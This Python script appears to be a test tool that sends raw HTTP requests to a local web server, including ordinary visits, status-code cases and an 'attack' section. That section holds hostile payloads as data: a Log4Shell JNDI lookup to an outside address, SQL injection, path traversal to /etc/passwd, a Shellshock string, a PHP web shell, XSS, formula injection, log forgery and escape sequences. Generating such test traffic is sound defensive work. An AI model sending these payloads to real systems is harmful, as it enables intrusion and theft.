#!/usr/bin/env python3
"""Sends requests to a web server on this machine: usage: web-requests.py PORT PART [COUNT]

    visit    COUNT requests of ordinary visitors (seeded, so every run sends the same)
    status   one or more requests for each status and each kind of error that the configurations provide
    attack   hostile, broken and odd requests
    repeat   the ordinary visitors, but to the few pages of the plain server

Requests are written as bytes to a socket: a client library would refuse or mend half of them. The clients are
addresses of documentation ranges which make.sh gave to `lo` of its own network namespace.
"""
import base64
import random
import socket
import sys
import time

PORT = int(sys.argv[1])
PART = sys.argv[2]
COUNT = int(sys.argv[3]) if len(sys.argv) > 3 else 100

V4 = ["203.0.113.5", "203.0.113.42", "203.0.113.199", "198.51.100.7", "198.51.100.23", "198.51.100.88", "127.0.0.1"]
V6 = ["2001:db8::1", "2001:db8:0:7::bad:cafe", "::1"]
AGENTS = [
    b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    b"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15",
    b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    b"Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    b"Mozilla/5.0 (compatible; ExampleBot/2.1; +http://bot.example/about)",
    b"curl/7.88.1",
    None,
]
REFERERS = [None, None, b"https://www.example.com/", b"https://search.example/?q=red+shoes&lang=en", b"android-app://com.example.app/"]


def send(data, client="203.0.113.5", wait=4.0, end=False):
    """Writes the bytes and reads the answer to its end; `end` half-closes after writing."""
    family = socket.AF_INET6 if ":" in client else socket.AF_INET
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(wait or 1)
    s.bind((client, 0))
    s.connect(("::1" if family == socket.AF_INET6 else "127.0.0.1", PORT))
    answer = b""
    try:
        s.sendall(data)
        if end:
            s.shutdown(socket.SHUT_WR)
        while wait:
            part = s.recv(65536)
            if not part:
                break
            answer += part
    except OSError:
        pass
    s.close()
    return answer


def request(target, method=b"GET", client="203.0.113.5", agent=b"curl/7.88.1", referer=None, host=b"www.example.com",
            version=b"HTTP/1.1", user=None, body=b"", more=(), wait=4.0):
    head = [method + b" " + target + b" " + version]
    if host is not None:
        head.append(b"Host: " + host)
    if agent is not None:
        head.append(b"User-Agent: " + agent)
    if referer is not None:
        head.append(b"Referer: " + referer)
    if user is not None:
        head.append(b"Authorization: Basic " + base64.b64encode(user))
    if body or method in (b"POST", b"PUT"):
        head.append(b"Content-Length: %d" % len(body))
    head += list(more)
    head.append(b"Connection: close")
    return send(b"\r\n".join(head) + b"\r\n\r\n" + body, client, wait)


def visit(pages):
    rng = random.Random(20)
    for _ in range(COUNT):
        page = rng.choice(pages)
        forwarded = rng.choice([(), (), (b"X-Forwarded-For: 192.0.2.60",), (b"X-Forwarded-For: 192.0.2.60, 10.0.0.4",)])
        request(page, client=rng.choice(V4 + V6), agent=rng.choice(AGENTS), referer=rng.choice(REFERERS), more=forwarded,
                host=rng.choice([b"www.example.com", b"www.example.com", b"shop.example.com"]),
                version=rng.choice([b"HTTP/1.1"] * 5 + [b"HTTP/1.0"]))
        if rng.random() < 0.1:
            time.sleep(0.1)


def status():
    ok = request(b"/index.html")
    modified = next(line for line in ok.split(b"\r\n") if line.lower().startswith(b"last-modified:")).split(b": ", 1)[1]
    request(b"/index.html", more=[b"If-Modified-Since: " + modified])                        # 304
    request(b"/static/data.bin", more=[b"Range: bytes=0-99"])                                # 206
    request(b"/static/data.bin", more=[b"Range: bytes=10-19,30-39"])                         # 206, in two parts
    request(b"/static/data.bin", more=[b"Range: bytes=99999999-"])                           # 416
    request(b"/", b"HEAD")
    request(b"/", b"OPTIONS")
    request(b"/", b"PROPFIND", more=[b"Depth: 1"])
    request(b"/", b"TRACE")
    request(b"/", b"DELETE")
    request(b"/upload", b"POST", body=b"name=value&other=%00")
    request(b"/upload", b"PUT", body=b"x" * 5000, client="::1")                               # larger than the buffer
    request(b"/upload", b"POST", body=b"y" * 70000)                                          # 413
    request(b"/upload", b"POST", more=[b"Expect: 200-maybe"])                                # 417
    request(b"/old/page?id=7")                                                               # 301
    request(b"/loop/a")                                                                      # 500
    request(b"/dir/")                                                                        # 403, no index
    request(b"/dir/", client="::1", referer=b"http://www.example.com/?a=\"b\"")
    request(b"/dir")                                                                         # 301
    request(b"/secret.txt")                                                                  # 403, mode 000
    request(b"/locked/file.txt")                                                             # 403, directory of mode 000
    request(b"/.htaccess")
    request(b"/forbidden/plan.html", client="203.0.113.199")                                 # 403, by rule
    request(b"/forbidden/plan.html", client="2001:db8::1", referer=b"http://www.example.com/")
    request(b"/missing.html")
    request(b"/missing/too.png", referer=b"http://www.example.com/index.html", client="2001:db8:0:7::bad:cafe")
    request(b"/private/")                                                                    # 401
    request(b"/private/", user=b"alice:secret")
    request(b"/private/", user=b"jane doe:secret")
    request(b"/private/", user=b"o\"neil:secret", client="::1")
    request(b"/private/", user=b"alice:wrong", referer=b"http://www.example.com/")           # password mismatch
    request(b"/private/", user=b"mallory:secret", client="198.51.100.88")                    # no such user
    request(b"/private/", user=b"m\xc3\xbcller \xe2\x80\xae:x")
    request(b"/private/", user=b"-:x")
    request(b"/private/", user=b":x")
    request(b"/private/", user=b"line\r\nfeed [x] \x1b[31m:x")
    for _ in range(5):
        request(b"/login", b"POST", body=b"user=admin&password=letmein", client="198.51.100.88")  # rate limit
    for n in range(6):
        request(b"/app/cart?item=%d" % n, client="198.51.100.7")                             # every second: a dead server first
    request(b"/app/hidden")
    request(b"/dead/x")                                                                      # 502
    request(b"/dead/y?z=1", client="2001:db8::1", referer=b"http://www.example.com/a b")
    request(b"/slow/report", wait=4.0)                                                       # 504
    for where in (b"close", b"junk", b"header", b"short"):
        request(b"/broken/" + where)                                                         # 502, of four kinds
    request(b"/big/file")
    request(b"/slow/one", wait=0.3)                                                          # the client goes: 499
    request(b"/slow/two", wait=0.3, client="::1")
    send(b"GET /static/data.bin HTTP/1.1\r\nHost: www.example.com\r\n\r\n", wait=0)          # goes without reading
    request(b"/info.php?name=x")
    request(b"/warn.php?name=%22x%22", referer=b"http://www.example.com/form")               # PHP messages
    request(b"/fatal.php", client="2001:db8::1")                                             # an exception with a stack trace
    request(b"/nothere.php")
    request(b"/cgi-bin/hello.cgi")
    request(b"/cgi-bin/noisy.cgi?q=1", referer=b"http://www.example.com/cgi")                # many lines on stderr
    request(b"/cgi-bin/broken.cgi")                                                          # dies before the header
    request(b"/cgi-bin/missing.cgi")
    send(b"GET /half HTTP/1.1\r\nHost: www.exam", client="198.51.100.23")                    # 408
    send(b"", client="198.51.100.23")                                                        # idle
    send(b"POST /upload HTTP/1.1\r\nHost: www.example.com\r\nContent-Length: 100\r\n\r\nabc")  # a body that never comes
    send(b"GET /one HTTP/1.1\r\nHost: www.example.com\r\n\r\n"
         b"GET /two HTTP/1.1\r\nHost: www.example.com\r\nConnection: close\r\n\r\n")         # pipelined


def attack():
    jndi = b"${jndi:ldap://198.51.100.66:1389/Basic/Command/Base64/d2hvYW1p}"
    request(b"/?x=" + jndi, agent=jndi, referer=jndi, client="198.51.100.88")
    request(b"/", agent=b"${${::-j}${::-n}di:${lower:l}dap://x.example/a}", more=[b"X-Forwarded-For: " + jndi])
    request(b"/search?q=1'%20OR%20'1'='1'--%20", client="198.51.100.88")
    request(b"/search?q=1'+UNION+SELECT+username,password+FROM+users--+-", agent=b"sqlmap/1.7 (https://sqlmap.example)")
    request(b"/search?id=1;DROP+TABLE+access_log;--", agent=b"'; DROP TABLE access_log; --")
    request(b"/search?q=\"quoted\"&r=\\backslash\\", agent=b"say \"hello\" \\ and \\\"escaped\\\" 'single'",
            referer=b"http://x.example/\"><b>")
    request(b"/%2e%2e/%2e%2e/%2e%2e/etc/passwd")
    request(b"/..%2f..%2f..%2fetc%2fpasswd")
    request(b"/static/../../../../etc/passwd")
    request(b"/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", b"POST", body=b"echo;id")
    request(b"/..%c0%af..%c0%afetc/passwd")
    request(b"/index.html%00.png")
    request(b"/%")
    request(b"/%zz")
    request(b"/search?q=<script>alert(1)</script>", referer=b"http://x.example/<script>alert(document.cookie)</script>")
    request(b"/", referer=b"\"><img src=x onerror=alert(1)>", agent=b"<?php system($_GET['c']); ?>")
    request(b"/", agent=b"() { :;}; /bin/bash -c 'id'")
    request(b"/", agent=b"=cmd|' /C calc'!A0", referer=b"=HYPERLINK(\"http://x.example\")")
    request(b"/.env")
    request(b"/wp-login.php", b"POST", body=b"log=admin&pwd=admin", client="198.51.100.88")
    request(b"/", agent=b"-", referer=b"-")
    request(b"/", agent=b"", referer=b"")
    request(b"/", agent=b"\" 200 512 \"-\" \"forged")
    request(b"/", agent=b"x\" 200 1 \"-\" \"-\" - - [01/Jan/2000:00:00:00 +0000] \"GET / HTTP/1.1")
    request(b"/search?q=\" 200 1234 \"http://x.example/\" \"y\"")
    request(b"/search?q=[brackets]&r={braces}&s=|pipe|^`caret")

    # Bytes that are not text.
    request(b"/", agent=b"\x1b[2J\x1b[31mred\x1b[0m \x1b]52;c;ZWNobyBoaQ==\x07 \x1b]0;title\x07")
    request(b"/search?q=\x1b[2J\x1b]52;c;ZWNobyBoaQ==\x07")
    request(b"/", agent=b"tab\there, bell\x07, backspace\x08, delete\x7f, c1 \x9b31m")
    request(b"/", referer=b"http://x.example/a\tb")
    request(b"/caf\xc3\xa9/\xe2\x98\x95/\xf0\x9f\x98\x80.html", agent=b"Na\xc3\xafve \xf0\x9f\xa4\x96/1.0",
            referer=b"https://m\xc3\xbcnchen.example/stra\xc3\x9fe")
    request(b"/invoice\xe2\x80\xaegpj.exe", agent=b"bidi \xe2\x80\xaetxet desrever\xe2\x80\xac \xe2\x81\xa6isolate\xe2\x81\xa9")
    request(b"/latin1/caf\xe9", agent=b"invalid \xff\xfe \xc3\x28 \xed\xa0\x80 \xf4\x90\x80\x80", referer=b"\x80\x81")
    request(b"/zero\xe2\x80\x8bwidth\xef\xbb\xbf", agent=b"\xef\xbb\xbfbom first")
    request(b"/%C3%A9%F0%9F%98%80%E2%80%AE%1b%5b31m%0d%0aSet-Cookie:x")

    # Not quite HTTP.
    send(b"\x16\x03\x01\x00\xee\x01\x00\x00\xea\x03\x03" + bytes(range(32)) + b"\x20" + bytes(range(64, 96))
         + b"\x00\x26\xc0\x2b\xc0\x2f\xcc\xa9\xcc\xa8\r\n\r\n", client="198.51.100.88")
    send(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\"\\\"\n", client="198.51.100.88")
    send(b"\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr\r\n", client="198.51.100.88", end=True)
    send(b"SSH-2.0-Go\r\n", client="198.51.100.88")
    send(b"\r\n\r\n", end=True)
    send(b"\n", end=True)
    send(b" \r\n\r\n")
    send(b"\x00\r\n\r\n")
    send(b"GET /\r\n", end=True)                                # HTTP/0.9
    send(b"GET\r\n\r\n")
    send(b"GET /no-version\r\n\r\n", end=True)
    send(b"GET / HTTP/1.1\r\n\r\n")                             # no Host
    send(b"GET / HTTP/1.1\r\nHost: a.example\r\nHost: b.example\r\n\r\n")
    send(b"GET / HTTP/1.1\r\nHost: www.example.com\r\nno colon here\r\n\r\n")
    send(b"GET / HTTP/1.1\r\nHost: www.example.com\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", end=True)
    send(b"GET / HTTP/9.9\r\nHost: www.example.com\r\n\r\n")
    send(b"GET / HTTP/2.0\r\nHost: www.example.com\r\n\r\n")
    send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
    send(b"get / http/1.1\r\nhost: www.example.com\r\n\r\n")
    send(b"GET  /two-spaces  HTTP/1.1\r\nHost: www.example.com\r\nConnection: close\r\n\r\n")
    send(b"GET /a b c HTTP/1.1\r\nHost: www.example.com\r\nConnection: close\r\n\r\n")
    send(b"GET / HTTP/1.1\nHost: www.example.com\nConnection: close\n\n")      # bare line feeds
    request(b"/", b"BREW")
    request(b"/", b"M-SEARCH")
    request(b"/", b"g\"et")
    request(b"/", b"\xc3\xa9")
    request(b"*", b"OPTIONS")
    request(b"www.example.com:443", b"CONNECT", host=b"www.example.com:443")
    request(b"http://other.example/proxy?x=1", host=b"other.example")
    request(b"http://www.example.com/absolute", host=b"www.example.com")
    request(b"//double//slash", host=b"shop.example.com")
    request(b"/", host=b"203.0.113.1:8080")
    request(b"/", host=b"[2001:db8::1]:8080", client="2001:db8::1")
    request(b"/", host=b"evil\"host")
    request(b"/", host=b"nobody.example", more=[b"X-Forwarded-For: \"x\", unknown, 2001:db8::9, \x1b[1m"])
    request(b"/", more=[b"Cookie: " + b"c" * 9000])             # header too large
    request(b"/long/" + b"a" * 6000)                            # 6 kB
    request(b"/search?" + b"b" * 9000)                          # 414
    request(b"/", agent=b"Mozilla/5.0 " + b"u" * 2000)


{
    "visit": lambda: visit([b"/", b"/index.html", b"/static/style.css", b"/static/app.js?v=3", b"/static/logo.png", b"/static/data.bin",
                            b"/search?q=shoes&page=2", b"/app/cart", b"/app/item/4711", b"/info.php", b"/missing.html", b"/favicon.ico",
                            b"/old/page", b"/cgi-bin/hello.cgi"]),
    "repeat": lambda: visit([b"/", b"/index.html", b"/static/style.css", b"/search?q=shoes", b"/missing.html"]),
    "status": status,
    "attack": attack,
}[PART]()
